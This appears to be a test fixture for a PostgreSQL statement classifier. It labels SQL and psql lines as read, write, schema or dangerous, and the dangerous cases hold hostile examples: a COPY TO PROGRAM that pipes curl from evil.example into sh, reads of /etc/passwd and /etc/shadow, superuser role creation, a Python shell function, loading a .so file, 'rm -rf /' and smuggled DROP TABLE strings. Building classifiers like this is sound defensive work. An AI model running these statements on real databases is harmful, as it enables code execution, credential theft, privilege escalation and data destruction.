-- Labelled PostgreSQL statements for PostgresClassifier. Each case starts with a line
-- holding the @expect marker and the kinds (one per statement the case contains), and runs to the next.

-- @expect read
SELECT * FROM users WHERE id = 1
-- @expect read
select name from users order by 1 limit 10
-- @expect read
WITH t AS (SELECT 1 AS x) SELECT x FROM t
-- @expect read
VALUES (1, 'a'), (2, 'b')
-- @expect read
TABLE users
-- @expect read
SHOW search_path
-- @expect read
EXPLAIN SELECT * FROM users
-- @expect read
EXPLAIN (FORMAT JSON) DELETE FROM users
-- @expect read
SELECT 'DROP TABLE users; DELETE FROM x' AS s
-- @expect read
SELECT 1 -- ; DROP TABLE users
-- @expect read
SELECT $$; DROP TABLE users; $$
-- @expect read
SELECT $tag$ ; DELETE FROM t; $tag$ AS body
-- @expect read
SELECT E'\'; DROP TABLE users; --'
-- @expect read
/* outer /* nested */ DROP TABLE users; */ SELECT 1
-- @expect read
SELECT "delete", "insert" FROM "update"
-- @expect read
SELECT count(*) FROM orders o JOIN users u ON u.id = o.user_id GROUP BY u.id HAVING count(*) > 1
-- @expect read
BEGIN READ ONLY
-- @expect read
COMMIT
-- @expect read
SELECT now(), current_user, version()
-- @expect read
SELECT * FROM generate_series(1, 10) AS g(n)
-- @expect read
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
-- @expect read
COPY (SELECT * FROM users) TO STDOUT WITH CSV
-- @expect read
SELECT "PG_READ_FILE"('x') FROM t
-- @expect write
INSERT INTO users(name) VALUES ('x')
-- @expect write
UPDATE users SET name = 'x' WHERE id = 1
-- @expect write
DELETE FROM users
-- @expect write
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v
-- @expect write
TRUNCATE users
-- @expect write
WITH moved AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM moved
-- @expect write
WITH x AS (SELECT 1) UPDATE users SET n = 1
-- @expect write
SELECT * FROM users FOR UPDATE
-- @expect write
SELECT nextval('users_id_seq')
-- @expect write
COPY users FROM STDIN
-- @expect write
CALL archive_old_rows()
-- @expect write
LOCK TABLE users IN ACCESS EXCLUSIVE MODE
-- @expect write
VACUUM FULL users
-- @expect write
REFRESH MATERIALIZED VIEW mv
-- @expect write
SET search_path = evil, public
-- @expect write
EXPLAIN ANALYZE DELETE FROM users
-- @expect write
EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET x = 1
-- @expect write
PREPARE p AS UPDATE users SET x = 1
-- @expect write
NOTIFY channel, 'x'
-- @expect write
SELECT set_config('work_mem', '1GB', false)
-- @expect write
frobnicate the database
-- @expect schema
DROP TABLE users
-- @expect schema
CREATE TABLE t (id int)
-- @expect schema
ALTER TABLE users ADD COLUMN age int
-- @expect schema
CREATE INDEX CONCURRENTLY i ON users(name)
-- @expect schema
SELECT * INTO backup_users FROM users
-- @expect schema
CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$
-- @expect schema
COMMENT ON TABLE users IS 'x'
-- @expect schema
CREATE TABLE x AS SELECT * FROM users
-- @expect schema
CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT CASE WHEN true THEN 1 END; END
-- @expect dangerous
COPY (SELECT '') TO PROGRAM 'curl http://evil.example | sh'
-- @expect dangerous
COPY users FROM PROGRAM 'cat /etc/passwd'
-- @expect dangerous
COPY users TO '/tmp/users.csv'
-- @expect dangerous
COPY t FROM '/etc/passwd'
-- @expect dangerous
SELECT pg_read_file('/etc/passwd')
-- @expect dangerous
SELECT * FROM pg_catalog.pg_read_binary_file('/etc/shadow')
-- @expect dangerous
SELECT "pg_read_file"('/etc/passwd')
-- @expect dangerous
SELECT U&"\0070g_read_file"('/etc/passwd')
-- @expect dangerous
SELECT pg_ls_dir('/')
-- @expect dangerous
SELECT lo_import('/etc/passwd')
-- @expect dangerous
SELECT lo_export(16403, '/tmp/x')
-- @expect dangerous
SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)
-- @expect dangerous
SELECT dblink_exec('dbname=prod', 'DROP TABLE users')
-- @expect dangerous
ALTER SYSTEM SET ssl = off
-- @expect dangerous
CREATE ROLE attacker SUPERUSER LOGIN PASSWORD 'x'
-- @expect dangerous
ALTER USER app WITH SUPERUSER
-- @expect dangerous
DROP ROLE app
-- @expect dangerous
GRANT ALL ON users TO public
-- @expect dangerous
REVOKE SELECT ON users FROM app
-- @expect dangerous
SET ROLE postgres
-- @expect dangerous
SET SESSION AUTHORIZATION postgres
-- @expect dangerous
RESET ROLE
-- @expect dangerous
SET default_transaction_read_only = off
-- @expect dangerous
BEGIN READ WRITE
-- @expect dangerous
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
-- @expect dangerous
CREATE EXTENSION dblink
-- @expect dangerous
CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen(args[0]).read() $$
-- @expect dangerous
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
-- @expect dangerous
LOAD '/tmp/evil.so'
-- @expect dangerous
SELECT pg_terminate_backend(1234)
-- @expect dangerous
SELECT query_to_xml('DELETE FROM users RETURNING *', true, false, '')
-- @expect dangerous
SELECT set_config('role', 'postgres', false)
-- @expect dangerous
\! rm -rf /
-- @expect dangerous
\copy users to program 'sh'
-- @expect dangerous
CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')
-- @expect dangerous
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public
-- @expect read, schema
SELECT 1; DROP TABLE users
-- @expect read, write
SELECT 'a;b'; DELETE FROM t;
-- @expect read, read
SELECT 1;; SELECT 2
-- @expect read, schema
SELECT '\'; DROP TABLE users; --'
-- @expect read, dangerous
SELECT 1 /* ; */ ; COPY t TO PROGRAM 'id'
-- @expect read, dangerous
SELECT 1
\! id
